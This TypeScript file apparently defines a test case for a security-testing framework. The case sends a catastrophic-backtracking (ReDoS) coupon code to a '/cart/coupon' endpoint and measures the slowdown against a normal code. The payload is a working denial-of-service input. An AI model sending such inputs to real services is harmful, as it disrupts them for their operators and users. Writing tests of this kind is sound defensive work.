import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Keeps the application busy for seconds with one coupon code. */
export const redosCoupon: Attack = defineAttack({
  id: 'redos-coupon',
  class: 'redos',
  title: 'Keeps the application busy for seconds with one coupon code',
  cwe: 1333,
  capec: 492,
  technique: 'T1499.004',
  preconditions: [],

  steps: async ({ visitor }) => {
    const code = `${'A'.repeat(26)}!`
    const attack = await visitor.form('/cart/coupon', { code })
    const plain = await visitor.form('/cart/coupon', { code: 'AUTUMN-5' })
    return attack.ms - plain.ms
  },
  oracle: (extraMs) => extraMs > 300,
  twin: ({ visitor }) => visitor.form('/cart/coupon', { code: 'LANTERN-10' }),
})
